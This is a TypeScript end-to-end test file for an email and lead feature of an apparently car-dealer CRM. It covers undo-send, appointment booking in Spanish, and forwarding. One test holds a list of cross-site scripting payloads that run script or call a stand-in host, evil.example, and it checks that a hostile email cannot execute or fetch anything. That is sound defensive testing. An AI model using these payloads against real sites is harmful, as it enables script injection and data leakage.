import { randomUUID } from 'node:crypto'
import { beforeAll, expect, test } from 'vitest'
import type { Letter } from '../../lib/local/mail.ts'
import { callConsole, newOrganization, type TestOrganization } from '../cloud.ts'
import { eventually } from '../eventually.ts'
import { usePages } from './pages.ts'

const { visit, open } = usePages()

let ours: TestOrganization
let leads: string
beforeAll(async () => {
  ours = await newOrganization()
  leads = (await ours.client.post('/api/leads/mail')).body.mail.address
})

const bring = (mail: object) => callConsole('POST', 'inbox/mails', mail)
const lettersTo = async (to: string): Promise<Letter[]> =>
  (await callConsole('GET', `inbox/mails?to=${encodeURIComponent(to)}`)).body.mails

/** A lead that comes by mail with no number. */
async function newLead() {
  const address = `ana-${randomUUID().slice(0, 8)}@gmail.example`
  const name = `Ana ${address.slice(4, 12)}`
  const text = `Name: ${name}\nEmail: ${address}\nMessage: Is the Escape still there?`
  await bring({ to: leads, from: 'Site <web@dealer.example>', subject: 'New lead', text })
  return eventually(async () => {
    const { data } = (await ours.client.get('/api/chats/recent-by-contact?status=all&per_page=200')).body
    const row = data.find((one: { display_name: string }) => one.display_name === name)
    if (!row) throw new Error(`${name} is not in the list.`)
    return { address, name, contact: row.contact_id as string, id: row.email_conversation_id as string }
  })
}

/** Available times are offered on weekdays. */
const wednesday = (() => {
  const day = new Date(Date.now() + 2 * 86_400_000)
  while (day.getUTCDay() !== 3) day.setUTCDate(day.getUTCDate() + 1)
  return day.toISOString().slice(0, 10)
})()

test('a lead without a number is answered by mail, answers, and books, on a phone in Spanish', async () => {
  const { address, contact, id } = await newLead()
  const page = await visit(`/chats/${id}`, { as: ours.client, language: 'es', viewport: { width: 390, height: 844 } })
  const field = page.getByPlaceholder('Escribe un correo…')
  const undo = page.getByRole('button', { name: 'Deshacer', exact: true })
  const send = page.getByRole('button', { name: 'Enviar', exact: true })
  // The time in which it could be taken back is over.
  await page.evaluate(() => {
    const { timeout } = AbortSignal
    AbortSignal.timeout = () => {
      AbortSignal.timeout = timeout
      return timeout(0)
    }
  })
  await field.fill('It is. When can you come?')
  await send.click()
  await eventually(async () => expect(await lettersTo(address)).toHaveLength(1))
  const text = 'Wednesday.\n\nOn Mon, Nov 30, 2026, Lotwire wrote:\n> It is. When can you come?'
  await callConsole('POST', 'inbox/replies', { from: `Ana <${address}>`, text })
  await page.locator('article', { hasText: 'Wednesday.' }).last().waitFor()

  // Taken back it stands in the field again; whoever leaves the page has it sent at once.
  await field.fill('See you then.')
  await send.click()
  await undo.click()
  expect(await field.inputValue()).toBe('See you then.')
  expect(await lettersTo(address)).toHaveLength(1)
  await send.click()
  await undo.waitFor()
  const here = page.url()
  await page.goto('about:blank')
  await eventually(async () => expect(await lettersTo(address)).toHaveLength(2))
  await page.goto(here)

  await page.getByRole('button', { name: 'Acciones de la conversación' }).click()
  await page.getByRole('menuitem', { name: 'Agendar cita' }).click()
  const dialog = page.getByRole('dialog')
  await dialog.getByLabel('Fecha').fill(wednesday)
  await dialog.getByRole('region', { name: 'Horarios libres' }).getByRole('button').first().click()
  await dialog.getByRole('button', { name: 'Agendar cita' }).click()
  await dialog.waitFor({ state: 'detached' })
  const { data } = (await ours.client.get(`/api/appointments?contact=${contact}`)).body
  expect(data).toMatchObject([{ status: 'scheduled' }])
})

const EVIL = 'https://evil.example'
const RUN = `top.ran=1;new Image().src='${EVIL}/ran'`
const HOSTILE = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<img src=x onerror="${RUN}"><img src="${EVIL}/pixel.gif" srcset="${EVIL}/2x.gif 2x">`,
  `<svg onload="${RUN}"><script>${RUN}</script><image href="${EVIL}/svg.png"/></svg>`,
  `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf"><video poster="${EVIL}/v.png" src="${EVIL}/v.mp4"></video>`,
  `<link rel="stylesheet" href="${EVIL}/s.css"><style>@import '${EVIL}/i.css';body{background:url(${EVIL}/b.png)}</style>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/away"><base href="${EVIL}/">`,
  `<input autofocus onfocus="${RUN}"><details open ontoggle="${RUN}"><form action="${EVIL}/f"><button>Go</button></form></details>`,
  `<table background="${EVIL}/t.png"></table></iframe><script>${RUN}</script><body onload="${RUN}">`,
  `<a id="bait" href="javascript:${RUN}">Click</a><math><mtext></p><img src=x onerror="${RUN}">`,
]

test('nothing of a hostile mail runs or is fetched in a browser that shows it', async () => {
  const { address, id } = await newLead()
  await ours.client.patch('/api/me', { language: 'en' })
  await ours.client.post(`/api/chats/email/${id}/send`, { body: 'Hello' })
  const html = `<p>Look at this</p>${HOSTILE.join('\n')}<p>The end of it</p>`
  await callConsole('POST', 'inbox/replies', { from: `Ana <${address}>`, html })
  await eventually(async () =>
    expect((await ours.client.get(`/api/chats/email/${id}/messages`)).body.messages.at(-1).mail?.page).toBe(0),
  )
  const page = await open(`/chats/${id}`, { as: ours.client, viewport: { width: 1440, height: 900 } })
  // The browser says of each that it stopped it.
  page.removeAllListeners('console')
  // What the policy stops gets no further than the page.
  const asked: string[] = []
  await page.route(`${EVIL}/**`, (route) => {
    asked.push(route.request().url())
    return route.abort()
  })
  await page.getByRole('button', { name: 'Show as sent' }).click()
  const frame = page.frameLocator('iframe.chat-mail-page')
  await frame.getByText('The end of it').waitFor()
  await frame.locator('#bait').click()
  await frame.getByRole('button', { name: 'Go' }).click()
  await page.locator('iframe.chat-mail-page').screenshot()
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  expect(asked).toEqual([])
  expect(page.url()).toContain(`/chats/${id}`)
  await page.getByRole('button', { name: 'Show pictures' }).click()
  await expect.poll(() => asked).toContain(`${EVIL}/pixel.gif`)
})

test('a forward that is taken back on another page is written again where its mail is', async () => {
  const { address, id } = await newLead()
  await ours.client.post(`/api/chats/email/${id}/send`, { body: 'Hello' })
  await callConsole('POST', 'inbox/replies', { from: `Ana <${address}>`, text: 'My papers.' })
  const page = await visit(`/chats/${id}`, { as: ours.client, language: 'en', viewport: { width: 1440, height: 900 } })
  await page.locator('article', { hasText: 'My papers.' }).getByRole('button', { name: 'Forward' }).click()
  const lender = `lender-${randomUUID().slice(0, 8)}@bank.example`
  const dialog = page.getByRole('dialog')
  await dialog.getByLabel('To').fill('lender@bank')
  await dialog.getByRole('button', { name: 'Forward' }).click()
  await dialog.getByText('Enter a valid email.').waitFor()
  await dialog.getByLabel('To').fill(lender)
  await dialog.getByLabel('Message').fill('For your file.')
  await dialog.getByRole('button', { name: 'Forward' }).click()
  await page.getByRole('link', { name: 'Calendar' }).click()
  await page.getByRole('button', { name: 'Undo', exact: true }).click()
  await page.goBack()
  await dialog.waitFor()
  expect(await dialog.getByLabel('To').inputValue()).toBe(lender)
  expect(await dialog.getByLabel('Message').inputValue()).toBe('For your file.')
  expect(await lettersTo(lender)).toEqual([])
  await dialog.getByRole('button', { name: 'Cancel' }).click()
  await dialog.waitFor({ state: 'detached' })
})
